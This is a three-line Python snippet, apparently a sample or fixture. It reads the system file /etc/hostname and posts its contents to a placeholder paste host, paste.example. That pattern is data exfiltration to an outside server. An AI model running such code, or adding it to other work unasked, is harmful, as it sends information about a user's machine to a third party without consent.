import urllib.request

req = urllib.request.Request("https://paste.example/api", data=open("/etc/hostname", "rb").read())
urllib.request.urlopen(req)
